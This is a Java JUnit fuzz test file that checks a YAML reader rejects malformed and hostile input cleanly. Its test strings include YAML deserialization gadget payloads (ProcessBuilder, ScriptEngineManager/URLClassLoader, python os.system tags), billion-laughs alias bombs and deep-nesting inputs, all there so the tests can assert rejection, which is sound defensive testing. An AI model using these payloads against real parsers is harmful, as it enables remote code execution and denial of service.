package dev.varroa.bundle.render;

import static dev.varroa.bundle.render.TestBundles.git;
import static dev.varroa.bundle.render.TestBundles.gitRef;
import static dev.varroa.bundle.render.TestBundles.request;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.varroa.bundle.BundleException;
import dev.varroa.bundle.BundleFiles;
import dev.varroa.bundle.BundleProblem;
import dev.varroa.bundle.ResolvedInput;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Malformed and hostile YAML gives one clean INVALID problem naming the input, the file and (when
 * the parser knows it) the line; never a hang, a stack overflow or an out-of-memory. The timeouts
 * are hang guards, not speed assertions.
 */
class YamlReaderFuzzTest {
  private static final Duration HANG_GUARD = Duration.ofSeconds(10);

  private static BundleProblem problemOf(String yaml) {
    return problemOf(git(0, "jcasc/hostile.yaml", yaml));
  }

  private static BundleProblem problemOf(ResolvedInput input) {
    return assertTimeoutPreemptively(HANG_GUARD, () -> {
      try {
        RenderedBundle rendered = new BundleRenderer().render(request(input));
        throw new AssertionError("rendered a hostile file:\n" + rendered.jcascText());
      } catch (BundleException expected) {
        assertThat(expected.problems()).hasSize(1);
        BundleProblem problem = expected.problems().get(0);
        assertThat(problem.kind()).isEqualTo(BundleProblem.Kind.INVALID);
        assertThat(problem.input()).isEqualTo(gitRef(0).describe());
        assertThat(problem.file()).isEqualTo("jcasc/hostile.yaml");
        assertThat(problem.fix()).isNotBlank();
        return problem;
      }
    });
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "a: [1, 2\nb: 3\n",
      "a:\n  b: 1\n c: 2\n",
      "a: \"unterminated\nb: 1\n",
      "a: b: c\n",
      "a:\n\t- tab indented\n",
      "- a\nb: 1\n",
      "a: {x: 1,, }\n",
      "? [complex]\n: key\n",
      "a: *undefined\n",
      "a: &x 1\nb: &x [*x]\nc: !!python/object:os.system ls\n",
      "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
      "a: !custom value\n",
      "a: 1\na: 2\n"})
  void malformedYamlIsInvalidWithItsLine(String yaml) {
    BundleProblem problem = problemOf(yaml);

    assertThat(problem.message()).containsPattern("^line [1-9][0-9]*: ");
  }

  @Test
  void duplicateKeyNamesBothLines() {
    assertThat(problemOf("jenkins:\n  mode: NORMAL\n  mode: EXCLUSIVE\n").message())
        .contains("'mode'", "lines 2 and 3");
  }

  @Test
  void javaClassTagsAreRefusedNotConstructed() {
    assertThat(problemOf("a: !!java.lang.ProcessBuilder [[touch, /tmp/pwned]]\n").message())
        .contains("not supported");
  }

  @Test
  void deeplyNestedFlowSequenceIsRejected() {
    BundleProblem problem = problemOf("a: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n");

    assertThat(problem.message()).contains("nested more than " + YamlReader.MAX_NESTING_DEPTH);
  }

  @Test
  void unclosedDeeplyNestedFlowIsRejected() {
    assertThat(problemOf("[".repeat(10_000)).message()).contains("nested more than");
  }

  @Test
  void deeplyNestedFlowMappingIsRejected() {
    assertThat(problemOf("{a: ".repeat(5_000) + "1" + "}".repeat(5_000)).message()).contains("nested more than");
  }

  @Test
  void deeplyNestedBlockMappingIsRejected() {
    StringBuilder yaml = new StringBuilder();
    for (int depth = 0; depth < 500; depth++) {
      yaml.append("  ".repeat(depth)).append("k:\n");
    }
    assertThat(problemOf(yaml.toString()).message()).contains("nested more than");
  }

  @Test
  void deeplyNestedBlockSequenceIsRejected() {
    assertThat(problemOf("a:\n  " + "- ".repeat(10_000) + "x\n").message()).contains("nested more than");
  }

  @Test
  void nestingUpToTheLimitIsRead() throws Exception {
    String yaml = "a: " + "[".repeat(YamlReader.MAX_NESTING_DEPTH - 1) + "]".repeat(YamlReader.MAX_NESTING_DEPTH - 1) + "\n";
    assertThat(TestBundles.jcasc(git(0, "jcasc/a.yaml", yaml))).startsWith("a:\n");
  }

  @Test
  void billionLaughsIsRejected() {
    StringBuilder yaml = new StringBuilder("lol0: &lol0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for (int level = 1; level < 10; level++) {
      String alias = "*lol" + (level - 1);
      yaml.append("lol").append(level).append(": &lol").append(level).append(" [")
          .append(String.join(", ", java.util.Collections.nCopies(9, alias))).append("]\n");
    }
    assertThat(problemOf(yaml.toString()).message()).containsAnyOf("aliases", "expands to more than");
  }

  @Test
  void moreAliasesToCollectionsThanTheLimitAreRejected() {
    String yaml = "base: &b [x]\nuses:\n" + "  - *b\n".repeat(YamlReader.MAX_ALIASES_FOR_COLLECTIONS + 1);
    assertThat(problemOf(yaml).message()).contains("more than " + YamlReader.MAX_ALIASES_FOR_COLLECTIONS + " aliases");
  }

  @Test
  void aliasFanOutWithinTheAliasLimitIsStoppedByTheExpandedSize() {
    StringBuilder yaml = new StringBuilder("l0: &l0 [x, x]\n");
    for (int level = 1; level <= 25; level++) {
      yaml.append("l").append(level).append(": &l").append(level)
          .append(" [*l").append(level - 1).append(", *l").append(level - 1).append("]\n");
    }
    assertThat(problemOf(yaml.toString()).message()).contains("expands to more than");
  }

  @Test
  void recursiveAliasIsRejected() {
    assertThat(problemOf("a: &a [1, *a]\n").message()).contains("*a");
  }

  @Test
  void fileLargerThanTheLimitIsRejectedBeforeParsing() {
    String huge = "a: \"" + "x".repeat(YamlReader.MAX_DOCUMENT_BYTES) + "\"\n";
    assertThat(problemOf(huge).message()).contains("bytes", "limit");
  }

  @Test
  void documentWithTooManyNodesIsRejected() {
    assertThat(problemOf("a:\n" + "  - x\n".repeat(YamlReader.MAX_EXPANDED_NODES)).message())
        .contains("expands to more than");
  }

  @Test
  void largeButLegalDocumentIsRead() throws Exception {
    String yaml = "a:\n" + "  - x\n".repeat(50_000) + "b: 1\n";
    String rendered = assertTimeoutPreemptively(HANG_GUARD, () -> TestBundles.jcasc(git(0, "jcasc/a.yaml", yaml)));
    assertThat(rendered).isEqualTo("a:\n  - x\nb: 1\n");
  }

  @Test
  void bytesThatAreNotUtf8AreInvalidWithTheirLine() {
    byte[] bytes = "a: 1\nb: \u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
    ResolvedInput input = new ResolvedInput(gitRef(0), TestBundles.REVISION,
        BundleFiles.of(Map.of("jcasc/hostile.yaml", bytes)));

    assertThat(problemOf(input).message()).contains("line 2", "UTF-8");
  }

  @Test
  void controlCharactersAreInvalid() {
    assertThat(problemOf("a: 1\nb: x\u0001y\n").message()).contains("U+1");
  }

  @Test
  void byteOrderMarkIsAccepted() throws Exception {
    assertThat(TestBundles.jcasc(git(0, "jcasc/a.yaml", "\uFEFFa: 1\n"))).isEqualTo("a: 1\n");
  }

  @Test
  void profileOverlayIsReadWithTheSameBounds() {
    BundleException failure = assertTimeoutPreemptively(HANG_GUARD, () -> TestBundles.failure(
        request(TestBundles.profile("x: " + "[".repeat(10_000)), git(0, "jcasc/a.yaml", "a: 1\n"))));

    assertThat(failure.problems()).singleElement().satisfies(problem -> {
      assertThat(problem.input()).isEqualTo("profile lts");
      assertThat(problem.file()).isEqualTo(BundleRenderer.OVERLAY_FILE);
    });
  }

  @Test
  void randomlyMutatedYamlEitherRendersOrFailsCleanly() {
    String seed = """
        jenkins:
          systemMessage: "Hello ${JENKINS_URL}"
          clouds:
            - kubernetes: &k8s {name: k8s, namespace: agents, templates: [{name: maven, image: 'maven:3'}]}
          labels: [a, b, !replace c]
          mode: !remove
        tool:
          git: {installations: [{name: default, home: git}], <<: {x: 1}}
        """;
    String alphabet = "{}[]:,-?&*!|>'\"#%@`\n\t ${}^abc0123456789.";
    Random random = new Random(20_260_101L);
    assertTimeoutPreemptively(Duration.ofSeconds(60), () -> {
      for (int round = 0; round < 2_000; round++) {
        StringBuilder mutated = new StringBuilder(seed);
        for (int edit = 0; edit < 1 + random.nextInt(6); edit++) {
          int at = random.nextInt(mutated.length());
          switch (random.nextInt(3)) {
            case 0 -> mutated.insert(at, alphabet.charAt(random.nextInt(alphabet.length())));
            case 1 -> mutated.deleteCharAt(at);
            default -> mutated.setCharAt(at, alphabet.charAt(random.nextInt(alphabet.length())));
          }
        }
        try {
          new BundleRenderer().render(request(git(0, "jcasc/a.yaml", mutated.toString())));
        } catch (BundleException expected) {
          assertThat(expected.problems()).allSatisfy(problem -> {
            assertThat(problem.input()).isEqualTo(gitRef(0).describe());
            assertThat(problem.message()).isNotBlank();
          });
        }
      }
    });
  }
}
